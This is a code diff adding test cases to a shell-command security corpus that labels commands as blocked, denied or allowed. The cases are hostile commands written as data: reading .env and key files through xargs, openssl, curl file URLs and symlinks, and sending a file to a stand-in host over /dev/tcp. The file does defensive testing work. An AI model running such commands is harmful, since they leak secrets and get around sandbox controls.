@@ -48,6 +48,7 @@ export const INTERPRETERS: readonly CorpusCase[] = [
   c('hash_p_rebinds_name', 'hash -p /tmp/evil ls; ls', 'blocked'),
   c('enable_f_loads_builtin', 'enable -f /tmp/x.so ls', 'blocked'),
   c('python_version_is_harmless', 'python3 --version', 'allow'),
+  c('python_module_is_bounded', 'python3 -m pytest tests', 'allow'),
   c('node_script_under_allow_rule', 'node scripts/build.js', 'allow'),
   c('git_c_color_is_harmless', 'git -c color.ui=never status', 'allow'),
 ];
@@ -156,6 +157,10 @@ export const EXFILTRATION: readonly CorpusCase[] = [
   c('xargs_feeds_env_to_cat', 'echo .env | xargs cat', 'blocked'),
   c('find_exec_cat_env', 'find . -name .env -exec cat {} \\;', 'blocked'),
   c('openssl_reads_env', 'openssl enc -base64 -in .env', 'blocked'),
+  c('curl_file_url_reads_env', 'curl file://{root}/.env', 'deny', { profile: 'network' }),
+  c('symlink_to_root_then_read', 'ln -s / r && cat r/etc/hostname', 'blocked'),
+  c('symlink_to_secrets_then_read', 'ln -s secrets s && cat s/key.pem', 'deny'),
+  c('dev_tcp_redirect_exfiltration', 'cat README.md > /dev/tcp/evil.example/80', 'blocked'),
   c('secrets_under_read_allow_all', 'cat secrets/key.pem', 'deny'),
 ];
 
